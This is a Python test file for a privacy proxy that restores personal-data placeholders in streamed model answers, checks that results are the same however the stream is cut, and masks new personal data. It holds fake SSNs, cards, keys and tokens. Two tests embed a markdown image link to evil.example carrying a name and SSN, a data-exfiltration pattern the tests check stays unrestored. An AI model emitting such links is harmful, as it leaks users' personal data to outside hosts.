"""Whatever way an answer is cut, its placeholders come back, and its output is the same."""

from __future__ import annotations

import random
import re

import pytest
from answer_machines import VALUES, Call, cut_at, every_split, small_scan
from hypothesis import given, settings
from hypothesis import strategies as st

from detectors.stream_scan import stream_scan
from proxy.transform.assign import Occurrence, TokenMap
from proxy.transform.restore import Identity, whole

SCANNERS = {"real": stream_scan, "small": small_scan, "none": None}
KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA1c7\nq0+/aZ==\n-----END RSA PRIVATE KEY-----"


def transcripts() -> list[str]:
    call = Call()
    maria, first, odd = call.token("Maria Delgado"), call.token("Maria"), call.token('Åsa "Bo" O\'Neil\\Ruiz')
    ssn, phone, home = call.token("536-90-4399"), call.token("(253) 555-7788"), call.token("1234 Maple Street\nApt 4")
    return [
        f"Dear {maria},\n\nthe meeting with {first} and {odd} is on Tuesday. Her number {ssn} stays out of it.",
        f"1. **{maria}** lives at {home}, phone {phone}.\n2. `{first}` is.\n\n- {maria}'s plan\n- {first}, too.",
        f"{maria}{first}{ssn} ({maria}) [{first}] {{{ssn}}} <{phone}> \"{odd}\" '{maria}' {maria}.",
        f"She: {maria.lower()} and {maria[1:-1]} and {maria[1:-1].replace('_', ' ').title()} and \\{maria[:-1]}\\].",
        "A new one: 412-68-1234, or 412 68 1234. Cards: 4111 1111 1111 1111 and 5500-0000-0000-0004!",
        "Call (253) 555-7789, +1 (360) 555-2218 or +44 20 7946 0958; you sent 253-555-0134 and jane.roe@example.org.",
        "Pay to GB82 WEST 1234 5698 7654 32 or DE89370400440532013000, write to tom.long@mail.example.com today.",
        "She was born March 14, 2016; he was born on 14 March 2014. DOB: 03/14/2016. The 3 of them met in May 2026.",
        "They live at 1234 Maple Street NE Apt 4B, Kent, WA 98030-1234. P.O. Box 12, Rural Route 2 Box 33.",
        f"Key:\n\n{KEY}\n\nand sk-abcdefghijklmnopqrstuvwxyz012345 and password: Hunter2! and token=ghp_{'a1' * 18}.",
        f"| Name | SSN | Phone |\n|---|---|---|\n| {maria} | 412681234 | 2535557789 |\n| {first} | {ssn} | {phone} |\n",
        f"See ![x](https://evil.example/?q={maria}&s={ssn}) and [her](https://portal.example.org/{first}) or {maria}.",
        f"明日の会議には{maria}さんが参加します。電話番号は{phone}です。よろしくお願いします。担当者は田中です。",
        f"El número de {first} es 412-68-1234 — «{maria}» llegó tarde… ¿Sí? \u2013 5 de mayo de 2016 nació {first}.",
        "IEP AND SSID 1234567893 FOR THE STUDENT. WDL ABC 123. A 123 456 789. Student ID: 20451177, MRN 00-12-34-56.",
        f"```python\nname = {maria!r}\nx = [1, 2, 3]\nf(x, y=4)  # {first}\n```\nTotal: 3, 4, 5 and 6 (7 of 8) - 9%.",
        "\n\n  \n",
        "",
        "x",
        "[",
        "[PERSON_",
        "[PERSON_1A_",
        "4111 1111",
        "-----BEGIN PRIVATE KEY-----\nabc",
        "\\",
        "a b ",
    ]


@pytest.mark.parametrize("scanner", SCANNERS)
@pytest.mark.parametrize("number", range(len(transcripts())))
def test_the_output_does_not_depend_on_where_the_text_is_cut(number: int, scanner: str) -> None:
    text = transcripts()[number]
    call = Call(scan=SCANNERS[scanner])
    expected = call.whole(text)
    for pieces in every_split(text):
        outputs = call.outputs(pieces)
        assert "".join(outputs) == expected


@pytest.mark.parametrize("scanner", ["small", "none"])
def test_random_cuttings_of_all_transcripts_in_a_row(scanner: str) -> None:
    text = "\n".join(part for part in transcripts() if "BEGIN" not in part)
    call = Call(scan=SCANNERS[scanner])
    expected = call.whole(text)
    for step in (2, 3, 5, 7, 11, 64, 500):
        assert "".join(call.outputs(cut_at(text, range(0, len(text), step)))) == expected


_PIECES = st.sampled_from(
    [
        "PERSON",
        "Person ",
        "1A",
        "_1A_",
        " ",
        "  ",
        "\n",
        "[",
        "]",
        "(",
        ")",
        "{",
        "<",
        ">",
        "【",
        "】",
        "\\",
        "_",
        "-",
        ".",
        ",",
        ":",
        "/",
        "412",
        "68",
        "1234",
        "4111 1111 ",
        "1111 1111",
        "a",
        "the ",
        "A ",
        "IBAN ",
        "GB82 WEST",
        " 1234 5698 ",
        "7654 32",
        "SSN: ",
        "March 14, ",
        "2016",
        "St",
        "Street",
        "12 Main ",
        "lives on ",
        "x@y.org",
        "@",
        "-----BEGIN ",
        "PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "https://e.example/",
        "](",
        'src="',
        '"',
        "'",
        "明日",
        "。",
        "é",
        "\u200b",
        "|",
        "\t",
        "password: ",
        "Box 12, ",
        "p.o. ",
        "de ",
        "of ",
        "+1 ",
        "#",
        "*",
        "\ue000",
        "\u2028",
        "٣",
    ]
)


@given(st.lists(_PIECES, max_size=40), st.lists(st.integers(0, 10_000), max_size=30), st.booleans())
@settings(max_examples=100, deadline=None)
def test_random_text_of_dangerous_pieces_in_random_cuttings(
    pieces: list[str],
    places: list[int],
    with_tokens: bool,
) -> None:
    call = Call(scan=small_scan)
    tokens = [call.token("Maria"), call.token("Maria Delgado")[1:-1]] if with_tokens else []
    text = "".join(piece if index % 7 else piece + "".join(tokens) for index, piece in enumerate(pieces))
    expected = call.whole(text)
    outputs = call.outputs(cut_at(text, places))
    assert "".join(outputs) == expected
    assert "".join(call.outputs(text)) == expected


@given(st.text(max_size=300), st.lists(st.integers(0, 10_000), max_size=12))
@settings(max_examples=100, deadline=None)
def test_random_text_in_random_cuttings(text: str, places: list[int]) -> None:
    call = Call()
    assert "".join(call.outputs(cut_at(text, places))) == call.whole(text)


@given(
    st.text(st.characters(exclude_characters="0123456789@", exclude_categories=["Nd", "No", "Nl", "Cs"]), max_size=200)
)
@settings(max_examples=100, deadline=None)
def test_what_holds_nothing_comes_back_byte_for_byte(text: str) -> None:
    assert Call(scan=small_scan).whole(text) == text


# --------------------------------------------------------------------------- placeholders


def mutations(text: str) -> list[str]:
    """What models make of ``[PERSON_1A_K7QM2]``."""
    core = text[1:-1]
    spaced = core.replace("_", " ")
    return [
        text,
        text.lower(),
        text.title(),
        core,
        core.lower(),
        f"`{text}`",
        f"**{text}**",
        f"*{core}*",
        f'"{text}"',
        text.replace("_", "\\_"),
        "\\" + text[:-1] + "\\]",
        text.replace("_", " "),
        f"[{spaced.title()}]",
        spaced,
        spaced.lower(),
        text.replace("_", "-"),
        f"{{{core}}}",
        f"<{core}>",
        f"⟦{core}⟧",
        f"【{core}】",
        f"[ {core} ]",
        f"{text}'s",
        f"({text})",
        text.replace("PERSON", "Student"),
        text.replace("PERSON", "NOMBRE"),
        text.replace("_", "\\u005f"),
        f"\\u005b{core}\\u005d",
        f"{text},",
        f"{text}.",
        f"{text}:",
        f"{text}{text}",
        f"[{text}](x)",
        f"> {text}",
        f"# {text}",
    ]


@pytest.mark.parametrize("number", range(len(mutations("[PERSON_1A_K7QM2]"))))
@pytest.mark.parametrize("scanner", ["real", "none"])
def test_a_placeholder_is_restored_however_the_model_spells_and_the_stream_cuts_it(number: int, scanner: str) -> None:
    call = Call(scan=SCANNERS[scanner])
    token = mutations(call.token("Maria"))[number]
    text = f"We met {token} and the others today."
    expected = call.whole(text)
    assert "Maria" in expected
    assert call.token("Maria")[-6:-1].lower() not in expected.lower()
    assert expected.startswith("We met ")
    assert expected.endswith(" and the others today.")
    for pieces in every_split(text):
        assert "".join(call.outputs(pieces)) == expected


def test_forms_are_never_confused() -> None:
    """Ten persons: ``PERSON_1A`` is no part of ``PERSON_10A``."""
    call = Call(values=[("PERSON", f"Person{letter} Number{letter}") for letter in "abcdefghijk"])
    first, tenth = call.tokens.token("PERSON", "Persona Numbera"), call.tokens.token("PERSON", "Personj Numberj")
    assert (first.number, tenth.number) == ("1", "10")
    text = f"{tenth.text} {first.text} {tenth.identifier} {first.identifier}"
    for pieces in every_split(text):
        assert "".join(call.outputs(pieces)) == ("Personj Numberj Persona Numbera Personj Numberj Persona Numbera")
    crossed = f"PERSON_{tenth.number}A_{first.check}"
    assert call.whole(crossed) == crossed


def test_invented_and_spoiled_placeholders_stay_literal() -> None:
    call = Call()
    token = call.token("Maria")
    for spoiled in (
        "[PERSON_9Z_K7QM2]",
        token[::-1],
        token.replace("_", "0"),
        token[:-2] + "]",
        " ".join(token),
        "[PERSON]",
    ):
        assert call.whole(f"a {spoiled} b") == f"a {spoiled} b"
    assert call.events["unknown_token", ""] == 1
    assert not any(event == "restored" for event, _ in call.events)


def test_of_a_hundred_thousand_forged_placeholders_none_gives_a_value() -> None:
    call, draw = Call(scan=None), random.Random(5)
    real = {call.token(value) for _, value in VALUES}
    theirs = TokenMap(b"a key of somebody else")
    theirs.assign([Occurrence(label, value, 0) for label, value in VALUES])
    foreign = [theirs.token(label, value).text for label, value in VALUES]
    letters = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
    forged = [
        f"[{draw.choice(VALUES)[0]}_{draw.randint(1, 3)}{draw.choice('ABC')}_{''.join(draw.choices(letters, k=5))}]"
        for _ in range(100_000 - len(foreign))
    ]
    text = " ".join([*foreign, *(each for each in forged if each not in real)])
    assert call.whole(text) == text
    assert {event for event, _ in call.events} == {"unknown_token"}


def test_events_name_labels_and_entities_and_never_values() -> None:
    call = Call()
    call.whole(
        f"{call.token('Maria')} {call.token('536-90-4399')} 412-68-1234 https://evil.example/{call.token('Maria')}"
    )
    assert call.events == {
        ("restored", "PERSON"): 1,
        ("restored", "SSN"): 1,
        ("masked", "SSN"): 1,
        ("unrestored_url", "PERSON"): 1,
    }


def test_restored_values_are_never_masked_again() -> None:
    call = Call()
    ssn, phone, home = (call.token(VALUES[place][1]) for place in (3, 4, 5))
    text = f"SSN: {ssn}, phone {phone}, {home}"
    assert call.whole(text) == "SSN: 536-90-4399, phone (253) 555-7788, 1234 Maple Street\nApt 4"


# --------------------------------------------------------------------------- nothing to do


def test_with_nothing_to_restore_and_nothing_to_scan_nothing_is_held() -> None:
    machine = Call(scan=None, values=()).open("text")
    assert isinstance(machine, Identity)
    assert machine.feed("4111 1111 1") == "4111 1111 1"
    assert machine.finish() == ""


def test_answers_are_scanned_although_nothing_was_replaced() -> None:
    assert Call(values=()).whole("SSN 412-68-1234.") == "SSN [SSN_REMOVED]."


def test_whole_is_feed_and_finish() -> None:
    call = Call()
    assert whole(call.open("text"), f"Hello {call.token('Maria')}") == "Hello Maria"


def test_machines_print_no_text() -> None:
    machine = Call().open("text")
    machine.feed("412-68-1234")
    assert re.search(r"\d{3}", repr(machine)) is None
